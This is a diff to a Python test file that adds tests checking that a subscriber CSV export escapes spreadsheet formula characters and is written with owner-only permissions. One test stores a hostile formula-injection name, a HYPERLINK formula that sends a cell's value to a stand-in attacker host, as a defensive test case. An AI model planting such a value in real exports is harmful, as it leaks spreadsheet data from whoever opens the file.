@@ -4,9 +4,12 @@ real servers on loopback). docs/security.md says what is defended and how."""
 
 from __future__ import annotations
 
+import csv
 import http.server
+import io
 import logging
 import os
+import stat
 import subprocess
 import sys
 import threading
@@ -27,6 +30,8 @@ from web_support import SECRET, csrf_of, uvicorn_thread, web_client
 
 from digest.cli import app
 from digest.errors import DigestError
+from digest.exports import cell
+from digest.models import Subscriber
 from digest.project import Project, init_project, open_project
 from digest.signup import csrf_pair, read_confirmation
 from digest.sources.errors import ParseError
@@ -447,3 +452,30 @@ def test_a_lock_held_by_another_session_fails_the_command_after_the_timeout(
         assert migrating.returncode == 1
         assert "waited 1 s for a lock held by another session" in migrating.stderr
     assert _digest(project.root, "subscribers", "count").returncode == 0
+
+
+# -- 9. CSV exports open as text, and only for their owner ---------------------------------------
+
+
+def test_an_export_escapes_formulas_and_is_written_owner_only(project: Project) -> None:
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    project.store.subscribe(Subscriber("ada@example.net", hostile, "example"), origin="web")
+    project.store.subscribe(Subscriber("bo@example.net", "@SUM(1+1)", "example"), origin="web")
+    target = project.root / "export.csv"
+    target.write_text("old\n")
+    target.chmod(0o644)
+    result = _cli(project.root, "subscribers", "export", "-o", str(target))
+    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(target.read_text()))}
+    assert rows["ada@example.net"]["name"] == "'" + hostile
+    assert rows["bo@example.net"]["name"] == "'@SUM(1+1)"
+    # stdout too: a redirect into a file is an export
+    printed = _cli(project.root, "subscribers", "export")
+    assert "'=HYPERLINK" in printed.stdout  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_escaped(start: str) -> None:
+    assert cell(f"{start}1+1") == f"'{start}1+1"
+    assert cell("Ada = 1") == "Ada = 1"
